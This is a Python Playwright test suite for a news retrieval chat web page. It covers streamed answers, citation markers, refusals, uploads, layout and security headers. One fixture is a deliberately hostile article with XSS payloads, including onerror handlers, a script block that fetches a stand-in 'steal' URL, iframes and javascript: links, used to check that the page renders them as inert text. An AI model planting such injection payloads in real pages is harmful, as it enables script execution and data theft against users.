"""The chat page in a real browser: Debian chromium (headless) driven by Playwright.

The page talks to a real uvicorn on 127.0.0.1 serving create_app over a copy of the shipped
corpus index, in extractive mode (no LLM). Never `playwright install`: the browser is
/usr/bin/chromium (`make browser-deps` installs it with apt).
"""

from __future__ import annotations

import json
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
import uvicorn
from playwright.sync_api import Browser, ConsoleMessage, Dialog, Locator, Page, Request, Route

from newsrag.api.app import create_app
from newsrag.index import Embedder
from newsrag.rag.settings import Settings
from tests.rag.llm_double import LLMDouble, reply, status

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]
ARTIFACTS = ROOT / "artifacts"
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
ANSWERABLE = "How much will Alibaba invest in its overseas research hubs?"
UNANSWERABLE = "What is the capital of Australia?"
ANSWER_TIMEOUT_MS = 30_000

# Every trick an article could use to run script or load something remote, as plain text.
HOSTILE_TITLE = 'Quokka <img src=x onerror="window.__pwned=1;alert(1)"> Gazette'
HOSTILE_BODY = """\
Quokka Gazette reports that the Wombat Shipping Company will open a ferry terminal in \
Tromsø <img src=x onerror="window.__pwned=2;alert(2)"> by the spring of 2031.

<script>window.__pwned = 3; alert(3); fetch("http://example.invalid/steal")</script>

The terminal will serve **twelve** ferries a day ![logo](http://example.invalid/a.png) \
according to the <iframe src="http://example.invalid/frame"></iframe> harbour office.

<style>body { background: url(http://example.invalid/b.png) }</style>
<link rel="stylesheet" href="http://example.invalid/c.css">
<a href="javascript:alert(4)">click</a> [more](javascript:alert(5))
"""


def hostile_markdown() -> str:
    """A Markdown article whose title and body carry script, handlers and remote loads."""
    title = json.dumps(HOSTILE_TITLE)
    head = f"id: quokka-hostile\ntitle: {title}\nsource: Quokka Gazette\nurl: javascript:alert(6)"
    return f"---\n{head}\n---\n{HOSTILE_BODY}"


@contextmanager
def serve(index_dir: Path, embedder: Embedder, **settings: object) -> Iterator[str]:
    """create_app (extractive unless an LLM is given) under a real uvicorn on a free port."""
    values: dict[str, object] = {"llm_base_url": None, "api_key": None, "rate_limit_per_minute": 0}
    values.update(settings)
    config = Settings(_env_file=None, index_dir=index_dir, **values)  # type: ignore[call-arg]
    app = create_app(config, embedder=embedder)
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    server = uvicorn.Server(
        uvicorn.Config(app, log_level="warning", access_log=False, lifespan="on")
    )
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 60
    while not server.started:
        assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{sock.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(timeout=15)
        sock.close()


@pytest.fixture(scope="module")
def base_url(
    corpus_index_dir: Path, embedder: Embedder, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    index_dir = tmp_path_factory.mktemp("web-index") / "index"
    shutil.copytree(corpus_index_dir, index_dir)
    with serve(index_dir, embedder) as url:
        yield url


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if not CHROMIUM.exists():
        pytest.fail(
            "Debian chromium is missing: run `make browser-deps` (apt-get install chromium)"
        )
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield browser
        browser.close()


class PageWatch:
    """What a page did that it must not: dialogs, script errors, CSP reports, remote requests."""

    def __init__(self, page: Page) -> None:
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        self.csp: list[str] = []
        self.requests: list[str] = []
        self.outside: list[str] = []
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda exc: self.errors.append(str(exc)))
        page.on("console", self._console)
        page.on("request", self._request)

    def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _console(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            self.csp.append(message.text)

    def _request(self, request: Request) -> None:
        self.requests.append(request.url)
        # A blob: URL names memory of the page that made it ("blob:http://127.0.0.1:port/id"):
        # judged by that origin. Anything else not http(s) to 127.0.0.1 counts as outside.
        parts = urlsplit(request.url.removeprefix("blob:"))
        if parts.scheme not in ("http", "https") or parts.hostname != "127.0.0.1":
            self.outside.append(request.url)

    def assert_clean(self) -> None:
        assert self.dialogs == [], f"a dialog fired: {self.dialogs}"
        assert self.errors == [], f"script errors: {self.errors}"
        assert self.csp == [], f"CSP violations: {self.csp}"
        assert self.outside == [], f"requests outside 127.0.0.1: {self.outside}"


def open_page(browser: Browser, base_url: str, width: int, height: int) -> tuple[Page, PageWatch]:
    """A fresh browser context on the chat page, watched from its first request."""
    page = browser.new_context(viewport={"width": width, "height": height}).new_page()
    watch = PageWatch(page)
    page.goto(base_url + "/")
    page.wait_for_selector("body[data-ready='true']")
    return page, watch


@pytest.fixture
def chat(browser: Browser, base_url: str) -> Iterator[tuple[Page, PageWatch]]:
    page, watch = open_page(browser, base_url, 1280, 900)
    yield page, watch
    page.context.close()


def ask(page: Page, question: str) -> Locator:
    """Type a question, press Enter, and wait for that turn's final answer; return its element."""
    before = page.locator(".msg.assistant").count()
    page.locator("#question").fill(question)
    page.locator("#question").press("Enter")
    reply = page.locator(".msg.assistant").nth(before)
    reply.and_(page.locator("[aria-busy='false']")).wait_for(timeout=ANSWER_TIMEOUT_MS)
    return reply


def citations_of(base_url: str, question: str) -> list[dict[str, object]]:
    """The citations the API gives for a question (the page must show these)."""
    response = httpx.post(f"{base_url}/v1/ask", json={"question": question}, timeout=60)
    response.raise_for_status()
    citations: list[dict[str, object]] = response.json()["citations"]
    return citations


def document_text(base_url: str, doc_id: str) -> str:
    """The cleaned text of one article, as the API serves it."""
    response = httpx.get(f"{base_url}/v1/documents/{doc_id}", timeout=30)
    response.raise_for_status()
    text: str = response.json()["text"]
    return text


COUNT_STREAMED_TEXT = """() => {
  window.__streamedChunks = 0;
  const log = document.getElementById("conversation");
  new MutationObserver((records) => {
    for (const r of records) {
      const node = r.target.nodeType === Node.TEXT_NODE ? r.target.parentElement : r.target;
      if (node && node.closest && node.closest(".stream-text")) window.__streamedChunks += 1;
    }
  }).observe(log, { subtree: true, childList: true, characterData: true });
}"""


def test_answer_streams_in_and_its_marker_opens_the_highlighted_passage(
    chat: tuple[Page, PageWatch], base_url: str
) -> None:
    page, watch = chat
    page.evaluate(COUNT_STREAMED_TEXT)
    with page.expect_response("**/v1/ask/stream") as streamed:
        reply = ask(page, ANSWERABLE)
    assert streamed.value.headers["content-type"].startswith("text/event-stream")
    assert page.evaluate("window.__streamedChunks") > 0, "no token was rendered while streaming"
    assert "15 billion" in reply.locator(".answer-text").inner_text()
    markers = reply.locator("button.marker")
    assert markers.count() >= 1
    expected = citations_of(base_url, ANSWERABLE)
    assert page.locator("#source-list > li").count() == len(expected)

    first = markers.first
    cited = next(c for c in expected if c["marker"] == int(first.get_attribute("data-marker") or 0))
    first.click()
    mark = page.locator("#viewer-text mark.cited")
    mark.wait_for()
    text = document_text(base_url, str(cited["doc_id"]))
    assert page.locator("#viewer-text").inner_text() == text  # the whole article, as text
    assert mark.inner_text() == text[int(str(cited["start"])) : int(str(cited["end"]))]
    assert page.locator("#viewer-title").inner_text() == cited["title"]
    assert page.evaluate("document.activeElement.id") == "viewer-title"
    # An extractive sentence quotes its passage: the viewer emphasises the quoted words.
    quoted = " ".join(mark.locator("strong.quoted").inner_text().split())
    assert quoted and quoted in " ".join(reply.inner_text().split())
    page.wait_for_timeout(100)  # let the article box settle its scroll before the picture
    assert mark.is_visible()
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "web-answer.png"), full_page=True)
    watch.assert_clean()


def test_unanswerable_question_shows_the_refusal(chat: tuple[Page, PageWatch]) -> None:
    page, watch = chat
    reply = ask(page, UNANSWERABLE)
    assert "refusal" in (reply.get_attribute("class") or "")
    notice = reply.locator(".notice-refusal")
    assert notice.is_visible()
    assert "No answer in the sources" in notice.inner_text()
    assert reply.locator("button.marker").count() == 0
    assert page.locator("#source-list > li").count() == 0
    watch.assert_clean()


def test_follow_up_sends_the_conversation_and_new_conversation_clears_it(
    chat: tuple[Page, PageWatch],
) -> None:
    page, watch = chat
    first = ask(page, ANSWERABLE)
    first_text = first.locator(".answer-text").inner_text()
    with page.expect_request("**/v1/ask/stream") as follow_up:
        ask(page, "Which countries will the research centres be in?")
    history = follow_up.value.post_data_json["history"]
    assert [m["role"] for m in history] == ["user", "assistant"]
    assert history[0]["content"] == ANSWERABLE
    assert "15 billion" in history[1]["content"] and "15 billion" in first_text

    page.get_by_role("button", name="New conversation").click()
    assert page.locator(".turn").count() == 0
    with page.expect_request("**/v1/ask/stream") as fresh:
        ask(page, UNANSWERABLE)
    assert fresh.value.post_data_json["history"] == []
    watch.assert_clean()


def test_keyboard_only_use(chat: tuple[Page, PageWatch]) -> None:
    page, watch = chat
    box = page.locator("#question")
    box.click()
    page.keyboard.type("first line")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("second line")
    assert box.input_value() == "first line\nsecond line"
    assert page.locator(".turn").count() == 0  # Shift+Enter did not send
    box.fill(ANSWERABLE)
    box.press("Enter")
    page.locator(".msg.assistant[aria-busy='false'] button.marker").first.wait_for(
        timeout=ANSWER_TIMEOUT_MS
    )
    assert page.locator("#conversation").get_attribute("aria-live") == "polite"

    page.evaluate("document.activeElement.blur()")
    for _ in range(40):  # a marker is a real control, reachable with Tab
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.classList.contains('marker')"):
            break
    else:
        pytest.fail("no citation marker was reachable with Tab")
    marker = page.evaluate("document.activeElement.dataset.marker")
    page.keyboard.press("Enter")
    page.locator("#viewer-text mark.cited").wait_for()
    assert page.evaluate("document.activeElement.id") == "viewer-title"
    page.keyboard.press("Escape")
    assert page.locator("#viewer").is_hidden()
    assert page.evaluate("document.activeElement.dataset.marker") == marker  # focus came back
    watch.assert_clean()


def test_phone_width_layout(browser: Browser, base_url: str) -> None:
    page, watch = open_page(browser, base_url, 375, 740)
    try:
        overflow = "document.documentElement.scrollWidth - window.innerWidth"
        assert page.evaluate(overflow) <= 0
        reply = ask(page, ANSWERABLE)
        assert page.evaluate(overflow) <= 0  # the answer wraps; nothing scrolls sideways
        send = page.locator("#send").bounding_box()
        assert send is not None and send["x"] + send["width"] <= 375
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "web-phone-answer.png"), full_page=True)
        reply.locator("button.marker").first.click()
        page.locator("#viewer-text mark.cited").wait_for()
        box = page.locator("#viewer").bounding_box()
        assert box is not None and box["x"] == 0 and box["width"] == 375  # full-screen article
        page.screenshot(path=str(ARTIFACTS / "web-phone-passage.png"))
        page.locator("#viewer-close").click()
        assert page.locator("#viewer").is_hidden()
        watch.assert_clean()
    finally:
        page.context.close()


def test_hostile_article_is_shown_as_text_and_loads_nothing(
    chat: tuple[Page, PageWatch], base_url: str, tmp_path: Path
) -> None:
    page, watch = chat
    path = tmp_path / "quokka.md"
    path.write_text(hostile_markdown(), encoding="utf-8")
    try:
        page.get_by_role("button", name="Documents").click()
        page.locator("#file-input").set_input_files(str(path))
        row = page.locator(".upload[data-filename='quokka.md']")
        row.and_(page.locator("[data-status]")).wait_for(timeout=ANSWER_TIMEOUT_MS)
        assert row.get_attribute("data-status") == "added", row.inner_text()

        doc = page.locator(".doc[data-doc-id='quokka-hostile']")
        doc.wait_for()
        assert doc.locator(".doc-title").inner_text() == HOSTILE_TITLE
        doc.locator(".doc-title").click()
        page.locator("#viewer-text").get_by_text("window.__pwned = 3").wait_for()
        shown = page.locator("#viewer-text").inner_text()
        assert shown == document_text(base_url, "quokka-hostile")
        for literal in ["<script>", "onerror=", "![logo](http://example.invalid/a.png)", "<iframe"]:
            assert literal in shown
        assert page.locator("#viewer-title").inner_text() == HOSTILE_TITLE
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "web-hostile-article.png"), full_page=True)

        page.get_by_role("button", name="Chat").click()
        reply = ask(page, "Where will the Wombat Shipping Company open a ferry terminal?")
        assert "Tromsø" in reply.inner_text()
        assert reply.locator("button.marker").count() >= 1, reply.inner_text()
        reply.locator("button.marker").first.click()
        page.locator("#viewer-text mark.cited").wait_for()

        injected = (
            "img, script:not([src^='/static/']), iframe, object, embed, style, link[href^='http']"
        )
        assert page.locator(injected).count() == 0
        assert page.locator("a[href]:not([href^='http']):not([href^='#'])").count() == 0
        assert page.evaluate("typeof window.__pwned") == "undefined"
        watch.assert_clean()
        assert any("/v1/documents" in url for url in watch.requests)  # the watch saw traffic
    finally:
        httpx.delete(f"{base_url}/v1/documents/quokka-hostile", timeout=30)


DROP_FILES = """([name1, text1, name2, text2]) => {
  const dt = new DataTransfer();
  dt.items.add(new File([text1], name1, { type: "text/markdown" }));
  dt.items.add(new File([text2], name2, { type: "text/plain" }));
  return dt;
}"""


def test_upload_by_drag_and_drop_then_delete(chat: tuple[Page, PageWatch], base_url: str) -> None:
    page, watch = chat
    article = (
        "---\nid: drop-test\ntitle: Lighthouse keepers return to Skerryvore\n"
        "source: Test Wire\npublished_at: 2024-03-05\n---\n"
        "Lighthouse keepers returned to Skerryvore on Tuesday after a decade of automation.\n"
    )
    page.get_by_role("button", name="Documents").click()
    transfer = page.evaluate_handle(DROP_FILES, ["drop-test.md", article, "blank.txt", "   \n"])
    page.locator("#dropzone").dispatch_event("drop", {"dataTransfer": transfer})

    good = page.locator(".upload[data-filename='drop-test.md']")
    bad = page.locator(".upload[data-filename='blank.txt']")
    bad.and_(page.locator("[data-status]")).wait_for(timeout=ANSWER_TIMEOUT_MS)
    assert good.get_attribute("data-status") == "added", good.inner_text()
    assert bad.get_attribute("data-status") == "failed"
    assert "failed:" in bad.inner_text()  # the server's reason is shown per file
    sent = good.locator("progress").evaluate("(bar) => bar.value")
    assert sent == 1  # XMLHttpRequest upload progress reached the whole file

    doc = page.locator(".doc[data-doc-id='drop-test']")
    doc.wait_for()
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "web-documents.png"), full_page=True)
    assert "Test Wire, 2024-03-05" in doc.inner_text()
    delete = doc.get_by_role("button", name="Delete Lighthouse keepers return to Skerryvore")
    delete.click()
    assert delete.inner_text() == "Confirm delete"  # two steps, no native dialog
    delete.click()
    doc.wait_for(state="detached", timeout=ANSWER_TIMEOUT_MS)
    assert httpx.get(f"{base_url}/v1/documents/drop-test", timeout=30).status_code == 404
    watch.assert_clean()


def test_page_headers_from_the_app(base_url: str) -> None:
    response = httpx.get(base_url + "/", timeout=30)
    assert response.status_code == 200
    csp = response.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "object-src 'none'" in csp
    assert "frame-ancestors 'none'" in csp
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"


SSE_SAMPLE = (
    'event: token\r\ndata: {"text":"a"}\r\n\r\n'  # CRLF line ends
    ": ping\n\n"  # a comment (keep-alive)
    "event: final\ndata: one\ndata: two\n\n"  # multi-line data
)


def test_sse_parser_is_indifferent_to_chunk_boundaries(chat: tuple[Page, PageWatch]) -> None:
    page, _ = chat
    results = page.evaluate(
        """async (sample) => {
          const { SseParser } = await import("/static/sse.js");
          const runs = [];
          for (let cut = 0; cut <= sample.length; cut += 1) {
            const events = [];
            const parser = new SseParser((e) => events.push(e));
            parser.push(sample.slice(0, cut));
            parser.push(sample.slice(cut));
            parser.finish();
            runs.push(JSON.stringify(events));
          }
          return [...new Set(runs)];
        }""",
        SSE_SAMPLE,
    )
    expected = [{"event": "token", "data": '{"text":"a"}'}, {"event": "final", "data": "one\ntwo"}]
    assert [json.loads(r) for r in results] == [expected]


RENDER_ANSWER = """async (answer) => {
  const { answerBody, answerNotices, answerBadges } = await import("/static/render.js");
  const opened = [];
  const body = answerBody(answer, (citation) => opened.push(citation.marker));
  document.body.append(body);
  body.querySelector("button.marker").click();
  const unsupported = [...body.querySelectorAll(".sentence.unsupported")];
  return {
    text: body.textContent,
    elements: [...body.querySelectorAll("*")].map((e) => e.tagName + "." + e.className),
    markers: [...body.querySelectorAll("button.marker")].map((b) => b.textContent),
    unsupported: unsupported.map((s) => s.textContent),
    notices: answerNotices(answer).map((n) => n.className),
    badges: answerBadges(answer).map((b) => b.textContent),
    opened,
  };
}"""


def test_answer_rendering_flags_unsupported_and_degraded_and_keeps_markup_as_text(
    chat: tuple[Page, PageWatch],
) -> None:
    page, watch = chat
    citation = {"marker": 1, "doc_id": "d", "title": "T", "text": "p", "start": 0, "end": 1}
    answer = {
        "question": "q",
        "answer": "ignored when sentences are given",
        "answerable": True,
        "refusal_reason": None,
        "mode": "extractive",
        "degraded": True,
        "citations": [citation],
        "sentences": [
            {"text": "Supported **bold** <b>claim</b> [1].", "markers": [1], "supported": True},
            {
                "text": "Made-up claim [9] ![x](http://example.invalid/a.png).",
                "markers": [9],
                "supported": False,
            },
        ],
    }
    shown = page.evaluate(RENDER_ANSWER, answer)
    assert shown["markers"] == ["[1]"]  # [9] cites nothing the answer holds: left as text
    assert "**bold** <b>claim</b>" in shown["text"]
    assert "[9] ![x](http://example.invalid/a.png)" in shown["text"]
    assert {e.split(".")[0] for e in shown["elements"]} == {"SPAN", "BUTTON"}
    assert len(shown["unsupported"]) == 1 and "Made-up claim" in shown["unsupported"][0]
    assert "Not supported" in shown["unsupported"][0]
    assert "notice notice-degraded" in shown["notices"]
    assert shown["badges"] == ["Extractive", "Degraded"]
    assert shown["opened"] == [1]
    watch.assert_clean()


def test_llm_answer_streams_and_a_failing_llm_shows_the_degraded_answer(
    browser: Browser, corpus_index_dir: Path, embedder: Embedder
) -> None:
    text = "Alibaba will invest $15 billion to expand overseas research hubs [1]."
    with LLMDouble([reply(text)]) as double:
        llm = {
            "llm_base_url": double.base_url,
            "llm_model": "double",
            "llm_timeout_s": 2.0,
            "llm_max_retries": 0,
            "llm_deadline_s": 5.0,
        }
        with serve(corpus_index_dir, embedder, **llm) as url:
            page, watch = open_page(browser, url, 1280, 900)
            try:
                page.evaluate(COUNT_STREAMED_TEXT)
                answered = ask(page, ANSWERABLE)
                assert page.evaluate("window.__streamedChunks") > 1  # delta by delta
                assert answered.get_attribute("data-mode") == "llm"
                assert answered.locator(".badge").first.inner_text() == "LLM"
                assert answered.locator("button.marker").count() >= 1
                assert double.calls >= 1

                double.script(status(500))
                degraded = ask(page, ANSWERABLE)
                assert "degraded" in (degraded.get_attribute("class") or "")
                assert degraded.locator(".notice-degraded").is_visible()
                assert degraded.get_attribute("data-mode") == "extractive"
                assert degraded.locator("button.marker").count() >= 1  # still cited
                ARTIFACTS.mkdir(exist_ok=True)
                page.screenshot(path=str(ARTIFACTS / "web-llm-degraded.png"), full_page=True)
                watch.assert_clean()
            finally:
                page.context.close()


LOCATE = """async () => {
  const { locatePassage, locateQuote } = await import("/static/viewer.js");
  const text = "Intro line.\\nThe firm will invest $15 billion\\n in hubs. Outro.";
  return {
    exact: locatePassage(text, { start: 0, end: 11, text: "Intro line." }),
    shifted: locatePassage(text, { start: 3, end: 14, text: "Outro." }),
    missing: locatePassage(text, { start: 90, end: 99, text: "absent" }),
    quote: locateQuote(text, "The firm will invest $15 billion in hubs.", 0, text.length),
    outside: locateQuote(text, "The firm will invest $15 billion in hubs.", 20, text.length),
    short: locateQuote(text, "Outro.", 0, text.length),
  };
}"""


def test_passage_and_quote_location(chat: tuple[Page, PageWatch]) -> None:
    page, _ = chat
    found = page.evaluate(LOCATE)
    text = "Intro line.\nThe firm will invest $15 billion\n in hubs. Outro."
    assert found["exact"] == [0, 11]
    assert found["shifted"] == [text.index("Outro."), len(text)]  # stale offsets: found by text
    assert found["missing"] is None
    start, end = found["quote"]
    assert text[start:end] == "The firm will invest $15 billion\n in hubs"  # across a line break
    assert found["outside"] is None  # only inside the cited span
    assert found["short"] is None  # a few words are not a quote


def test_api_key_is_asked_for_and_then_sent(
    browser: Browser, corpus_index_dir: Path, embedder: Embedder
) -> None:
    with serve(corpus_index_dir, embedder, api_key="web-test-key") as url:
        assert httpx.get(url + "/", timeout=30).status_code == 200  # the page itself is open
        page, watch = open_page(browser, url, 1280, 900)
        try:
            refused = ask(page, ANSWERABLE)
            assert "error" in (refused.get_attribute("class") or "")
            assert "API key" in refused.inner_text()
            assert page.locator("#options").get_attribute("open") is not None
            page.locator("#f-key").fill("web-test-key")
            answered = ask(page, ANSWERABLE)
            assert answered.locator("button.marker").count() >= 1
            page.get_by_role("button", name="Documents").click()
            page.locator(".doc").first.wait_for()
            assert watch.dialogs == [] and watch.outside == []
        finally:
            page.context.close()


# --- issue 16: the newest answer in view, the panel following it, links, short answers ------


def assert_in_view(page: Page, reply: Locator) -> None:
    """The reply sits between the sticky header and the sticky question box (its top, at
    least, when it is taller than the room between them)."""
    header = page.locator(".topbar").bounding_box()
    form = page.locator("#ask-form").bounding_box()
    box = reply.bounding_box()
    assert header is not None and form is not None and box is not None
    room_top, room_bottom = header["y"] + header["height"], form["y"]
    assert box["y"] >= room_top - 1, (box, header)
    assert box["y"] < room_bottom, (box, form)  # its top is never under the box
    if box["height"] <= room_bottom - room_top - 24:
        assert box["y"] + box["height"] <= room_bottom + 1, (box, form)


def test_newest_answer_stays_above_the_question_box(browser: Browser, base_url: str) -> None:
    page, watch = open_page(browser, base_url, 1280, 700)
    try:
        questions = [ANSWERABLE, UNANSWERABLE, "Where will Alibaba open a development center?"]
        for question in [*questions, ANSWERABLE, UNANSWERABLE]:
            reply = ask(page, question)
            assert_in_view(page, reply)
        assert page.evaluate("window.scrollY") > 0  # the page did have to scroll
        watch.assert_clean()
    finally:
        page.context.close()


def test_article_panel_follows_the_answer_shown(
    chat: tuple[Page, PageWatch], base_url: str
) -> None:
    page, watch = chat
    viewer = page.locator("#viewer")
    first = ask(page, ANSWERABLE)
    first.locator("button.marker").first.click()
    page.locator("#viewer-text mark.cited").wait_for()

    question = "Where will Alibaba open a development center?"
    expected = citations_of(base_url, question)
    assert expected, "the second question must cite something"
    ask(page, question)
    assert viewer.is_visible()
    assert viewer.get_attribute("data-chunk-id") == expected[0]["chunk_id"]
    page.locator("#viewer-text mark.cited").wait_for()
    assert page.locator("#viewer-title").inner_text() == expected[0]["title"]
    assert page.evaluate("document.activeElement.id") == "question"  # typing is not interrupted

    ask(page, UNANSWERABLE)  # cites nothing: the old passage must not stay up
    assert viewer.is_hidden()
    assert page.locator("#viewer-text").inner_text() == ""

    # An older answer's marker brings its sources back beside the passage.
    first.locator("button.marker").first.click()
    page.locator("#viewer-text mark.cited").wait_for()
    assert page.locator("#source-list > li").count() == len(citations_of(base_url, ANSWERABLE))
    watch.assert_clean()


KITE_ARTICLE = (
    "---\nid: kite-fest\ntitle: Kite festival moves to Brighton\nsource: Coast Wire\n"
    "published_at: 2024-05-02\nurl: https://news.example/kites?id=7\n---\n"
    "The national kite festival will move to Brighton beach in August 2025, organisers said.\n"
)


def test_a_source_with_a_url_links_to_it_without_a_referrer(
    chat: tuple[Page, PageWatch], base_url: str
) -> None:
    page, watch = chat
    files = {"files": ("kites.md", KITE_ARTICLE, "text/markdown")}
    added = httpx.post(f"{base_url}/v1/documents", files=files, timeout=60)
    assert added.status_code == 200, added.text
    try:
        reply = ask(page, "Where will the national kite festival move?")
        assert reply.locator("button.marker").count() >= 1, reply.inner_text()
        link = page.locator("#source-list a.source-link")
        assert link.count() == 1
        reply.locator("button.marker").first.click()
        page.locator("#viewer-text mark.cited").wait_for()
        for anchor in (link, page.locator("#viewer-meta a")):
            assert anchor.get_attribute("href") == "https://news.example/kites?id=7"
            assert set((anchor.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}
            assert anchor.get_attribute("referrerpolicy") == "no-referrer"
            assert anchor.get_attribute("target") == "_blank"
        # The corpus's own sources have no url: no link where there is nothing to open.
        ask(page, ANSWERABLE)
        assert page.locator("#source-list a").count() == 0
        watch.assert_clean()  # nothing was followed: no request left 127.0.0.1
    finally:
        httpx.delete(f"{base_url}/v1/documents/kite-fest", timeout=30)


def sse_body(answer: dict[str, object]) -> str:
    """What /v1/ask/stream sends for an answer: its text as one token, citations, final."""
    events = [
        ("token", {"text": answer["answer"]}),
        ("citations", {"citations": answer["citations"], "sentences": answer["sentences"]}),
        ("final", answer),
    ]
    return "".join(f"event: {name}\ndata: {json.dumps(data)}\n\n" for name, data in events)


def canned(**fields: object) -> dict[str, object]:
    """An Answer JSON with the given fields (the answer layer fills short_answer and near_miss)."""
    citation = {
        "marker": 1, "chunk_id": "000_55b3a58e47ab3e3b#0", "doc_id": "000_55b3a58e47ab3e3b",
        "title": "Alibaba hubs", "source": "Wire", "published_at": "2021-06-15",
        "text": "Alibaba ... is going to invest $15 billion", "start": 0, "end": 10,
        "supported": True, "url": None,
    }  # fmt: skip
    answer: dict[str, object] = {
        "question": "q", "answer": "It will invest $15 billion [1].", "short_answer": None,
        "answerable": True, "refusal_reason": None, "mode": "extractive", "degraded": False,
        "citations": [citation], "timings_ms": {"total": 1.0}, "conflict": False,
        "sentences": [
            {"text": "It will invest $15 billion [1].", "markers": [1], "supported": True},
        ],
    }  # fmt: skip
    answer.update(fields)
    return answer


def test_short_answer_and_each_refusal_reason_have_their_own_look(
    chat: tuple[Page, PageWatch],
) -> None:
    page, watch = chat
    near_citation = {**canned()["citations"][0], "supported": False}  # type: ignore[index]
    answers = [
        canned(short_answer="$15 billion"),
        canned(
            answer="The articles give Alibaba's 2021 investment, not its 2019 one [1].",
            answerable=False, refusal_reason="near_miss", citations=[near_citation], sentences=[],
        ),
        canned(answer="No answer.", answerable=False, refusal_reason="no_relevant_passages",
               citations=[], sentences=[]),
        canned(answer="No answer.", answerable=False, refusal_reason="not_supported",
               citations=[], sentences=[]),
    ]  # fmt: skip
    queue = list(answers)

    def respond(route: Route) -> None:
        route.fulfill(status=200, content_type="text/event-stream", body=sse_body(queue.pop(0)))

    page.route("**/v1/ask/stream", respond)
    replies = [ask(page, f"question {i}") for i in range(len(answers))]
    short, near, none, unsupported = replies
    assert short.locator(".short-answer .short-value").inner_text() == "$15 billion"
    assert short.locator(".short-answer").is_visible()
    assert all(r.locator(".short-answer").count() == 0 for r in replies[1:])

    assert near.get_attribute("data-reason") == "near-miss"
    assert near.locator(".notice-near-miss").is_visible()
    assert "Close, but not what was asked" in near.locator(".notice-refusal").inner_text()
    assert near.locator(".badge").last.text_content() == "Near miss"
    assert near.locator("button.marker.marker-weak").count() == 1  # what they do cover, cited
    assert none.locator(".notice-no-relevant-passages").is_visible()
    assert unsupported.locator(".notice-not-supported").is_visible()
    looks = [
        r.evaluate("(e) => getComputedStyle(e).backgroundColor")
        + r.locator(".notice-refusal").evaluate(
            "(e) => getComputedStyle(e).backgroundColor + getComputedStyle(e).borderLeftStyle"
        )
        for r in (near, none, unsupported)
    ]
    assert len(set(looks)) == 3, looks  # each reason is told apart at a glance
    watch.assert_clean()


def test_rewritten_followup_is_shown_only_when_it_helps(chat: tuple[Page, PageWatch]) -> None:
    page, watch = chat
    cases = [
        ("When did it open?", "When did Zorbix open?", True),
        ("and how many crews?", "How many crews?", False),  # says nothing more
        ("Who said that?", "Who said that (the Quill Institute be at the forefront of)?", False),
        ("Who said that?", None, False),
    ]
    shown = page.evaluate(
        """async (cases) => {
          const { rewriteWorthShowing } = await import("/static/render.js");
          return cases.map(([q, r]) => rewriteWorthShowing(q, r));
        }""",
        [[q, r] for q, r, _ in cases],
    )
    assert shown == [ok for _, _, ok in cases]
    watch.assert_clean()
